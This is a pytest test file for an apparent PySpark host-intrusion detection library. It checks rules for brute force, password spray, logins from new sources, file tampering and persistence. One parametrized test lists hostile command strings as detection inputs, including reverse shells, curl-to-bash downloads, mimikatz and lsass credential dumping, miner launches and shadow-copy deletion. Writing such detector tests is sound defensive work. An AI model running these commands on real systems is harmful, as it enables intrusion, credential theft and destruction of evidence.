import pytest
from pyspark.sql import functions as F

from hostlens.operators import rules
from hostlens.schema import adapted

COLUMNS = "id long, us long, host string, category string, action string, outcome string, severity int, user string, src_ip string, session_id string, process_name string, parent_name string, command_line string, target string, after_sha string, message string, protocol string"


def events(spark, rows):
    names = [c.split()[0] for c in COLUMNS.split(", ")]
    base = {"host": "h", "outcome": "unknown", "severity": 0, "message": "m"}
    full = [{**dict.fromkeys(names), **base, "id": k, **r} for k, r in enumerate(rows, 1)]
    df = spark.createDataFrame([tuple(r[n] for n in names) for r in full], COLUMNS)
    return df.withColumn("ts", F.timestamp_micros("us"))


def failure(second, user, ip="198.51.100.9"):
    return {"us": second * 1_000_000, "category": "auth", "action": "auth.failure", "outcome": "failure", "user": user, "src_ip": ip}


def login(second, user, ip="198.51.100.9", protocol="ssh"):
    return {"us": second * 1_000_000, "category": "session", "action": "session.start", "outcome": "success", "user": user, "src_ip": ip, "protocol": protocol}


def fired(spark, rows, settings=rules.Settings(), **more):
    return sorted((r.rule, r.id) for r in rules.evaluate(events(spark, rows), settings, **more).collect())


def test_failures_then_a_login(spark):
    got = fired(spark, [failure(k * 3, "root") for k in range(30)] + [login(100, "root")])
    assert got == [("bruteforce", 8), ("privileged_login", 31), ("success_after_failures", 31)]


def test_spray_takes_the_place_of_brute_force(spark):
    rows = [failure(k, f"u{k}") for k in range(9)]
    assert fired(spark, rows) == [("bruteforce", 8), ("password_spray", 5)]
    # A spray alert on the very event on which brute force would fire keeps it back until the next.
    rows = [failure(k, f"u{max(0, k - 3)}") for k in range(9)]
    assert fired(spark, rows) == [("bruteforce", 9), ("password_spray", 8)]


def test_a_suppressed_spray_still_keeps_brute_force_back(spark):
    rows = [failure(k, f"u{max(0, k - 3)}") for k in range(8)]
    assert fired(spark, rows, suppress=[rules.Suppression(rule="password_spray")]) == []


def test_cooldown_boundary(spark):
    rows = [{"us": s * 1_000_000, "category": "privilege", "action": "privilege.sudo", "outcome": "failure", "user": "ann"} for s in (0, 899, 900, 1799, 1800)]
    assert fired(spark, rows) == [("privilege_failure", 1), ("privilege_failure", 3), ("privilege_failure", 5)]


def test_new_source(spark):
    rows = [login(0, "ann", "192.0.2.1"), login(10, "ANN", "192.0.2.1"), login(20, "ann", "192.0.2.2"), login(30, "ann", "10.0.0.5"), login(40, "ann", "127.0.0.1")]
    assert fired(spark, rows, rules.Settings(trusted=("10.*",))) == [("new_source", 3)]


def test_commands_and_shells(spark):
    def run(command, name="bash", parent="sshd"):
        return {"us": 0, "category": "process", "action": "process.start", "process_name": name, "parent_name": parent, "command_line": command}

    rows = [run("curl http://x | sudo bash"), run("ls"), run("id", "sh", "php-fpm8.2"), run("powershell.exe -enc " + "QUJD" * 8, "powershell.exe"), run(None)]
    assert fired(spark, rows) == [("download_exec", 1), ("encoded_exec", 4), ("webserver_shell", 3)]


def test_custom_suppression_and_files(spark):
    rows = [
        {"us": 0, "category": "file", "action": "file.modified", "target": "/etc/sudoers", "after_sha": "a"},
        {"us": 1, "category": "file", "action": "file.modified", "target": "/etc/sudoers", "after_sha": "a"},
        {"us": 2, "category": "file", "action": "file.modified", "target": "/etc/sudoers", "after_sha": "b"},
        {"us": 3, "category": "file", "action": "file.modified", "target": "/srv/x", "user": "deploy"},
    ]
    custom = [rules.CustomRule("srv", target="/srv/*", user="DEPLOY"), rules.CustomRule("none")]
    assert fired(spark, rows, custom=custom) == [("custom.srv", 4), ("sensitive_file", 1), ("sensitive_file", 3)]
    assert fired(spark, rows, custom=custom, suppress=[rules.Suppression(user="dep*")]) == [("sensitive_file", 1), ("sensitive_file", 3)]


def test_account_log_and_service_rules(spark):
    rows = [
        {"us": 0, "category": "account", "action": "account.user_created", "target": "eve"},
        {"us": 1, "category": "agent", "action": "log.cleared", "target": "Security"},
        {"us": 2, "category": "service", "action": "service.installed", "target": "svc"},
        {"us": 3, "category": "service", "action": "persistence.scheduled_task", "target": "t"},
    ]
    assert fired(spark, rows) == [("account_change", 1), ("log_tampering", 2), ("persistence_service", 3), ("persistence_task", 4)]


def test_rolling_cap(spark):
    df = spark.createDataFrame([("h", k, k * 60_000_000) for k in range(70)], "host string, id long, us long")
    got = rules.rolling_cap(df, "host", 30, 3600).orderBy("id").collect()
    assert [r.id for r in got] == [*range(30), *range(60, 70)]
    assert [r.suppressed for r in got if r.suppressed] == [30]


def test_no_events_no_alerts(spark):
    assert rules.evaluate(events(spark, [failure(0, "x")]).limit(0)).count() == 0


@pytest.mark.parametrize(
    "command, rule, severity",
    [
        ("curl http://x/a.sh | sudo bash", "download_exec", 3),
        ("echo aGk= | base64 --decode | sh", "encoded_exec", 3),
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse_shell", 4),
        ("nc 10.0.0.1 4444 -e /bin/sh", "reverse_shell", 4),
        ("socat tcp:1.2.3.4:5 EXEC:/bin/sh", "reverse_shell", 3),
        ("export HISTFILE=/dev/null", "history_tamper", 3),
        ("./xmrig -o pool", "cryptominer", 4),
        ("x --url stratum+tcp://pool:3333", "cryptominer", 4),
        ("systemctl stop auditd", "defense_evasion", 3),
        ("rm -f /var/log/auth.log", "log_tamper", 3),
        ("chattr +i /etc/passwd", "persistence", 2),
        ("mimikatz.exe", "credential_dump", 4),
        ("rundll32 comsvcs.dll, MiniDump 612 x", "credential_dump", 4),
        ("procdump64.exe -ma lsass.exe", "credential_dump", 4),
        ("vssadmin.exe delete shadows /all", "ransomware_prep", 4),
        ("wevtutil cl Security", "log_tamper", 4),
        ("powershell.exe -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "encoded_exec", 3),
        ("IEX (New-Object Net.WebClient).DownloadString('http://x')", "download_exec", 3),
        ("certutil.exe -f -urlcache http://x", "download_exec", 3),
        ("net localgroup administrators bob /add", "account_manipulation", 3),
        ("net1 user bob pw /add", "account_manipulation", 2),
        (r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\RunOnce /v x", "persistence", 2),
        ("cat /dev/tcp/host", None, None),
        ("curl http://x -o bash", None, None),
        ("rm -rf /tmp/x", None, None),
    ],
)
def test_each_command_pattern_by_hand(spark, command, rule, severity):
    got = spark.createDataFrame([(command,)], "c string").select(rules.command_match(F.col("c")).alias("m")).first().m
    assert (got and (got.rule, got.severity)) == (rule and (rule, severity))


def test_one_pass_equals_the_rules_one_by_one(spark, sf):
    """single_event_hits against the functions of the rules, over the whole table and events of the other categories."""
    e = rules.with_rule_columns(adapted(spark, sf))
    more = {
        "account": ("account.user_created", "account.group_member_added", "account.user_enabled", "account.other"),
        "service": ("service.installed", "service.state"),
        "agent": ("log.cleared", "log.truncated", "persistence.scheduled_task"),
    }
    for category, actions in more.items():
        part = e.filter("id % 5 = 0").withColumn("category", F.lit(category)).withColumn("group", F.when(F.col("id") % 2 == 0, "sudo"))
        for n, action in enumerate(actions):
            e = e.unionByName(part.filter(F.col("id") % len(actions) == n).withColumn("action", F.lit(action)))
    s = rules.Settings(business_hours="08:00-18:00", trusted=("203.0.113.1*",))
    custom = [rules.CustomRule("etc", target="/etc/*"), rules.CustomRule("quiet", user="user1*", notify=False)]
    one = [rules.off_hours(e, s), rules.privileged_login(e), rules.suspicious_command(e), rules.webserver_shell(e), rules.sensitive_file(e), rules.account_change(e), rules.privilege_failure(e), rules.service_installed(e), rules.scheduled_task(e), rules.log_tampering(e), rules.custom_rules(e, custom)]
    show = lambda df: sorted((r.rule, r.id, r.action, str(r.cooldown_key), r.severity, str(r.title), r.trigger_action) for r in df.collect())
    want = sorted(x for df in one for x in show(df))
    assert show(rules.single_event_hits(e, s, custom)) == want and len({x[0] for x in want}) >= 11
    off = rules.Settings(privileged_login=False, suspicious_commands=False, webserver_shell=False, sensitive_files=False, account_changes=False, log_tampering=False)
    assert {r.rule for r in rules.single_event_hits(e, off).collect()} == {"privilege_failure", "persistence_service", "persistence_task"}


def test_all_rules_read_the_events_few_times(spark, sf):
    plan = rules.evaluate(adapted(spark, sf))._jdf.queryExecution().executedPlan().toString()
    assert plan.count("FileScan") <= 6


def wildcard(text, pattern):
    import re

    body = "".join(".*" if c == "*" else "." if c == "?" else re.escape(c) for c in pattern)
    return text is not None and re.fullmatch(f"(?is){body}", text, re.ASCII if text.isascii() else 0) is not None


def test_rules_in_a_table_equal_every_pair(spark):
    import random

    g = random.Random(5)
    actions = ["session.start", "auth.failure", "process.start", "file.modified"]
    commands = ["ls -la", "vim /etc/passwd", "CURL http://x | sh", "a", "", "ab", "xmrig -t 4", None, "été (1)"]
    events = [(k, g.choice(["auth", "file", "alert"]), g.choice(actions), g.choice(["root", "Ann", "bob", None]), g.choice(["10.0.0.1", "203.0.113.7", None]), g.choice(["/etc/passwd", "/tmp/x", None]), g.choice(commands), g.choice(["bash", "sh", None])) for k in range(300)]
    patterns = ["", "", "", "*", "?", "session.*", "*.start", "auth.failure", "ROOT", "a*", "*b", "?", "??", "/etc/*", "*passwd*", "*|*", "c?rl*sh", "*a*", "10.0.0.?", "b?sh", "*t*s*", "x*y", "(1)", "*(1)"]
    rows = [(f"r{k}" if k % 50 else None, k % 5, *[g.choice(patterns) if g.random() < 0.4 else "" for _ in range(6)]) for k in range(400)]
    rows = [r[:7] + (None,) if g.random() < 0.1 else r for r in rows]
    e = spark.createDataFrame(events, "id long, category string, action string, user string, src_ip string, target string, command_line string, process_name string")
    r = spark.createDataFrame(rows, "id string, severity int, action string, user string, src_ip string, target string, command string, process string")
    want = sorted((ev[0], ru[0]) for ev in events for ru in rows if ev[1] != "alert" and ru[0] and any(ru[2:]) and all(not p or wildcard(v, p) for v, p in zip((ev[2], ev[3], ev[4], ev[5], ev[6], ev[7]), ru[2:], strict=True)))
    got = sorted((x.id, x.rule_id) for x in rules.custom_rules_join(e, r).collect())
    assert got == want and len(want) > 1000


def test_ten_thousand_rules_without_a_nested_loop(spark, sf):
    n = 10_000
    r = spark.range(n).select(F.concat(F.lit("r"), "id").alias("id"), F.lit(2).alias("severity"), F.lit("").alias("action"), F.when(F.col("id") % 4 == 0, "user*").otherwise("").alias("user"), F.lit("").alias("src_ip"), F.when(F.col("id") % 2 == 0, F.concat(F.lit("*/f"), F.col("id"), F.lit("-*"))).otherwise("").alias("target"), F.concat(F.lit("*tool"), F.col("id"), F.lit(" *")).alias("command"), F.lit("").alias("process"))
    r = r.unionByName(spark.createDataFrame([("curl", 2, "", "", "", "", "*curl*sh*", "")], r.schema))
    e = adapted(spark, sf)
    out = rules.custom_rules_join(e, r)
    assert "NestedLoop" not in out._jdf.queryExecution().executedPlan().toString() and "Cartesian" not in out._jdf.queryExecution().executedPlan().toString()
    assert {x.rule_id for x in out.collect()} == {"curl"} and out.count() == e.filter("command_line LIKE '%curl%sh%'").count() > 0
